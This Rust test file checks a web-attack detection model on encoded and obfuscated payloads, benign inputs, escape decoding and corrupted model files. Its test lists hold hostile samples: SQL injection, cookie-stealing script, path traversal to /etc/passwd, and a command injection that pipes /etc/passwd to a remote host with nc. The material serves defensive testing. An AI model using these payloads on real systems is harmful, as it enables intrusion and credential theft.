//! What the shipped model says of payloads, how escapes are undone, and that a broken file is no model.

use proptest::prelude::*;

use super::{decode::Plain, *};

const FILE: &[u8] = include_bytes!("../../../../../content/models/web_attack.bin");

fn plain(payload: &[u8]) -> String {
    String::from_utf8_lossy(Plain::of(payload).as_slice()).into_owned()
}

#[test]
fn attacks_stand_out_in_every_coat() {
    for payload in [
        "1' UNION SELECT username, password FROM users-- -",
        "1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--%20-",
        "1%2527%2520UNION%2520SELECT%2520username%252C%2520password%2520FROM%2520users--",
        "<script>alert(document.cookie)</script>",
        "%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
        "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
        "/view?file=../../../../etc/passwd",
        "/view?file=..%252f..%252f..%252f..%252fetc%252fpasswd",
        "; cat /etc/passwd | nc 10.0.0.1 4444",
    ] {
        let scored = score(payload.as_bytes());
        assert!(scored.probability > 0.9 && scored.p_value.get() < 0.002, "{payload}: {scored:?}");
    }
}

#[test]
fn what_people_send_does_not() {
    for payload in [
        "hello world",
        "/index.html",
        "/search?q=red+shoes&page=2&sort=price",
        "/products/4711/reviews?lang=de",
        "Maria O'Brien",
        "anna.smith@example.org",
        "2024-05-01T12:00:00Z",
        "The meeting is at noon, and lunch is on us.",
    ] {
        let scored = score(payload.as_bytes());
        assert!(scored.p_value.get() > 0.004, "{payload}: {scored:?}");
    }
}

#[test]
fn escapes_are_undone_however_they_nest() {
    assert_eq!(plain(b"%253Cb%253E"), "<b>");
    assert_eq!(plain(b"a+b%2Bc"), "a b+c");
    assert_eq!(plain(b"&#x3c;&#60;&lt;\\x3c\\u003c%u003c"), "<<<<<<");
    assert_eq!(plain(b"%c0%ae%c0%ae%c0%af"), "../");
    assert_eq!(plain("＜ＳＣＲＩＰＴ＞".as_bytes()), "<script>");
    assert_eq!(plain(b"UN/**/ION/*!50000SELECT*/"), "un ion select*/");
    assert_eq!(plain(b"100%"), "100%");
    assert_eq!(plain(b"%zz&unknown;&#;"), "%zz&unknown;&#;");
}

#[test]
fn an_attack_behind_padding_is_seen() {
    let mut payload = b"the quick brown fox jumps over the lazy dog ".repeat(200);
    let before = score(&payload);
    payload.extend_from_slice(b"' UNION SELECT password FROM users WHERE '1'='1");
    let after = score(&payload);
    assert!(after.score > before.score + 2.0, "{before:?} {after:?}");
}

#[test]
fn a_broken_file_is_no_model() {
    let model = Model::read(FILE).expect("the shipped file is whole");
    assert_eq!(model.write(), FILE);
    for cut in [0, 5, 100, FILE.len() / 2, FILE.len() - 1] {
        assert!(Model::read(&FILE[..cut]).is_none(), "cut at {cut}");
    }
}

proptest! {
    #[test]
    fn any_payload_gets_an_answer(payload in prop::collection::vec(any::<u8>(), 0..3_000)) {
        let scored = score(&payload);
        prop_assert!((0.0..=1.0).contains(&scored.probability));
    }

    #[test]
    fn undoing_escapes_never_makes_longer(payload in "[%&#x0-9a-f;+\\\\u]{0,200}") {
        prop_assert!(Plain::of(payload.as_bytes()).as_slice().len() <= payload.len());
    }
}
